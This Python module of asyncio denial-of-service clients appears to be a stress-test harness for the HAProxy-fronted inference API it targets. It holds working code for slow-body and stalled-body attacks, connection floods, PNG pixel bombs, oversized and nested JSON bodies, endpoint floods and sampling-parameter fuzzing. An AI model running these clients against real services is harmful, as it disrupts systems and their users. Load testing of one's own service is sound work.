"""Denial-of-service clients on raw sockets, so that an attack costs its machine little.

Each attack is a coroutine that runs until it is cancelled and counts the results: HTTP statuses, ``closed`` (no
answer), ``refused`` (no connection).
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import functools
import io
import json
import os
import random
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from typing import Any

from PIL import Image

Counts = Counter[str]
REOPEN_SECONDS = 5.0
"""Delay before a closed connection is opened again."""
BUFFERED_BYTES = 20_000
"""More than HAProxy waits for before it forwards a request."""
READ_BYTES = 65_536
MIB = 2**20


@dataclass(frozen=True)
class Target:
    """A server, and the address that its attacker has."""

    host: str
    port: int
    source: str = "127.0.0.2"
    counts: Counts = field(default_factory=Counter)
    max_pixels: int = 40_000_000

    async def attempt(self, talk: Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[str]]) -> None:
        try:
            reader, writer = await asyncio.open_connection(self.host, self.port, local_addr=(self.source, 0))
        except OSError:
            self.counts["refused"] += 1
            return
        try:
            self.counts[await talk(reader, writer)] += 1
        except (OSError, asyncio.IncompleteReadError):
            self.counts["closed"] += 1
        finally:
            writer.close()


def request(path: str, body: bytes | None = None, declared: int | None = None) -> bytes:
    """A request as sent over the wire; ``declared``: a length other than that of the body."""
    if body is None:
        return f"GET {path} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode()
    length = len(body) if declared is None else declared
    head = f"POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: {length}"
    return f"{head}\r\n\r\n".encode() + body


async def status(reader: asyncio.StreamReader) -> str:
    """The status of the next answer, whose body is read; ``closed`` if there is none."""
    head = await reader.readline()
    if not head:
        return "closed"
    length = 0
    while (line := (await reader.readline()).strip().lower()) != b"":
        if line.startswith(b"content-length:"):
            length = int(line.split(b":")[1])
    await reader.readexactly(length)
    return head.split()[1].decode()


async def _each(count: int, one: Callable[[int], Awaitable[None]], pause: float) -> None:
    """``count`` times in parallel, each again and again."""

    async def loop(number: int) -> None:
        await asyncio.sleep(random.random() * pause)  # noqa: S311  thousands at once would be a load of their own
        while True:
            await one(number)
            await asyncio.sleep(pause)

    async with asyncio.TaskGroup() as group:
        for number in range(count):
            group.create_task(loop(number))


async def without_a_body(target: Target, connections: int = 300) -> None:

    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> str:
        writer.write(request("/v1/embeddings", b"", declared=1000))
        return await status(reader)

    await _each(connections, lambda _: target.attempt(talk), REOPEN_SECONDS)


async def silent(target: Target, connections: int = 4200) -> None:

    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> str:
        return await status(reader)

    await _each(connections, lambda _: target.attempt(talk), REOPEN_SECONDS)


async def one_byte_a_second(target: Target, connections: int = 64) -> None:
    """Bodies that come byte by byte; every other one begins with enough to get through HAProxy."""

    async def one(number: int) -> None:
        async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> str:
            begun = b" " * (BUFFERED_BYTES if number % 2 else 0)
            writer.write(request("/v1/embeddings", begun, declared=10 * BUFFERED_BYTES))
            answer = asyncio.create_task(status(reader))
            try:
                while not answer.done():
                    writer.write(b" ")
                    await writer.drain()
                    await asyncio.wait([answer], timeout=1.0)
                return answer.result()
            finally:
                answer.cancel()

        await target.attempt(talk)

    await _each(connections, one, REOPEN_SECONDS)


async def picture_bombs(target: Target, connections: int = 32) -> None:
    uri = "data:image/png;base64," + base64.b64encode(bomb(target.max_pixels)).decode()
    data = request("/v1/embeddings", json.dumps({"input": [{"image": uri}]}).encode())

    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> str:
        writer.write(data)
        await writer.drain()
        return await status(reader)

    await _each(connections, lambda _: target.attempt(talk), 1.0)


@functools.cache
def bomb(pixels: int) -> bytes:
    """A PNG with an alpha channel and one colour: a few bytes for each thousand pixels."""
    side = max(1, int(pixels**0.5))
    buffer = io.BytesIO()
    Image.new("RGBA", (side, side), (200, 30, 30, 128)).save(buffer, "PNG")
    return buffer.getvalue()


async def health_flood(target: Target, connections: int = 20, per_second: int = 1000) -> None:

    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> str:
        paths = ("/health/ready", "/health/live", "/health/ready/clip", "/health/state")
        count = 0
        while True:
            writer.write(request(paths[count % len(paths)]))
            target.counts[await status(reader)] += 1
            count += 1
            await asyncio.sleep(connections / per_second)

    await _each(connections, lambda _: target.attempt(talk), 1.0)


async def cancelled_requests(target: Target, connections: int = 10, vlm: bool = False) -> None:
    """Requests whose client leaves at once; streams of the VLM, if one is served, after their first bytes."""
    chat = {"model": "vlm", "stream": True, "messages": [{"role": "user", "content": "say something long"}]}
    texts = {"input": ["a text that nobody waits for"] * 64}
    data = request("/v1/chat/completions" if vlm else "/v1/embeddings", json.dumps(chat if vlm else texts).encode())

    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> str:
        writer.write(data)
        await writer.drain()
        if vlm:
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(1.0):  # Python 3.11's wait_for goes on when it is cancelled at its end
                    await reader.read(READ_BYTES)
        return "left"

    await _each(connections, lambda _: target.attempt(talk), 0.5)


async def fuzzed_sampling(target: Target, requests: int = 10_000, connections: int = 4, seed: int = 0) -> None:
    """Sampling parameters at and beyond the edges of their ranges; ends by itself."""
    left = iter(range(requests))
    values = random.Random(seed)  # noqa: S311  always the same ones

    async def one() -> None:
        for _ in left:
            data = request("/v1/chat/completions", json.dumps(sampling(values)).encode())

            async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, data: bytes = data) -> str:
                writer.write(data)
                return await status(reader)

            await target.attempt(talk)

    async with asyncio.TaskGroup() as group:
        for _ in range(connections):
            group.create_task(one())


async def _posts(target: Target, connections: int, path: str, body: Callable[[int], bytes], pause: float = 1.0) -> None:
    """Per slot, one request after the other, each on a new connection. ``body``: by its number."""

    async def one(number: int) -> None:
        async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> str:
            writer.write(request(path, body(number)))
            await writer.drain()
            return await status(reader)

        await target.attempt(talk)

    await _each(connections, one, pause)


async def wrong_labels(target: Target, connections: int = 4) -> None:
    """Bodies of 4 MiB, with a list of two million elements that are all wrong."""
    data = b'{"images":["x"],"labels":[' + b"1," * (2 * MIB - 16) + b"1]}"
    await _posts(target, connections, "/v1/classify", lambda _: data)


async def unknown_keys(target: Target, connections: int = 4) -> None:
    """Bodies with 300,000 unknown fields."""
    data = b'{"input":"x",' + b",".join(b'"%d":1' % number for number in range(300_000)) + b"}"
    await _posts(target, connections, "/v1/embeddings", lambda _: data)


async def metadata(target: Target, connections: int = 4) -> None:
    """Chats of 16 MiB, nearly all of it `metadata`: millions of small lists, nested ones, or a few long texts."""
    head, tail, room = b'{"messages":[{"role":"user","content":"hi"}],"metadata":', b"}", 16 * MIB - 1024
    bodies = [
        head + b"[" + b"[]," * (room // 3) + b"1]" + tail,
        head + b"[" * (room // 2) + b"]" * (room // 2) + tail,
        head + b"[" + b'"' + b"x" * (room // 2) + b'","' + b"y" * (room // 2 - 16) + b'"]' + tail,
    ]
    await _posts(target, connections, "/v1/chat/completions", lambda number: bodies[number % len(bodies)])


async def release_polls(target: Target, connections: int = 20, per_second: int = 500) -> None:

    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> str:
        while True:
            writer.write(request("/v1/releases?limit=500"))
            target.counts[await status(reader)] += 1
            await asyncio.sleep(connections / per_second)

    await _each(connections, lambda _: target.attempt(talk), 1.0)


async def many_small_images(target: Target, connections: int = 192, images: int = 32) -> None:
    bodies = [json.dumps({"input": [{"image": _small_picture()} for _ in range(images)]}).encode() for _ in range(8)]
    await _posts(target, connections, "/v1/embeddings", lambda number: bodies[number % len(bodies)])


def _small_picture(side: int = 16) -> str:
    """Noise, as a bitmap: an encoder would cost the attacker more than the server."""
    buffer = io.BytesIO()
    Image.frombytes("RGB", (side, side), os.urandom(3 * side * side)).save(buffer, "BMP")
    return "data:image/bmp;base64," + base64.b64encode(buffer.getvalue()).decode()


async def abandoned_chats(target: Target, connections: int = 20) -> None:
    chat = {"messages": [_about(bomb(target.max_pixels // 16), 1)], "max_tokens": 64}
    data = request("/v1/chat/completions", json.dumps(chat).encode())

    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> str:
        writer.write(data)
        await writer.drain()
        await asyncio.sleep(0.2)
        return "left"

    await _each(connections, lambda _: target.attempt(talk), 0.2)


async def large_pictures(target: Target, connections: int = 32) -> None:
    """Chats about many large pictures, whose files are small; every other one has more than a VLM accepts."""
    picture = bomb(target.max_pixels // 16)
    bodies = [json.dumps({"messages": [_about(picture, count)], "max_tokens": 1}).encode() for count in (4, 32)]
    await _posts(target, connections, "/v1/chat/completions", lambda number: bodies[number % 2])


def _about(picture: bytes, count: int) -> dict[str, Any]:
    url = "data:image/png;base64," + base64.b64encode(picture).decode()
    shown: dict[str, Any] = {"type": "image_url", "image_url": {"url": url}}
    return {"role": "user", "content": [*[shown] * count, {"type": "text", "text": "what is this?"}]}


async def stalled_bodies(target: Target, connections: int = 64) -> None:
    """Bodies of which the second half never comes."""

    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> str:
        writer.write(request("/v1/embeddings", b" " * (4 * BUFFERED_BYTES), declared=8 * BUFFERED_BYTES))
        await writer.drain()
        return await status(reader)

    await _each(connections, lambda _: target.attempt(talk), REOPEN_SECONDS)


EDGES: tuple[Any, ...] = (
    0, 1, -1, 1e-320, 1e-45, 1e-8, 0.5, 1 - 1e-12, 2, 2.0000001, 1e308, -0.0, 2**63, -(2**63), "0.5", None, True, [],
    {},
)  # fmt: skip
FIELDS = (
    "temperature", "top_p", "seed", "frequency_penalty", "presence_penalty", "n", "top_k", "min_p", "stop", "logprobs",
    "top_logprobs", "max_completion_tokens",
)  # fmt: skip


def sampling(values: random.Random) -> dict[str, Any]:
    """A chat of one token with up to four odd fields."""
    odd = {name: values.choice(EDGES) for name in values.sample(FIELDS, values.randint(1, 4))}
    return {"model": "vlm", "messages": [{"role": "user", "content": "hello"}], "max_tokens": 1, **odd}
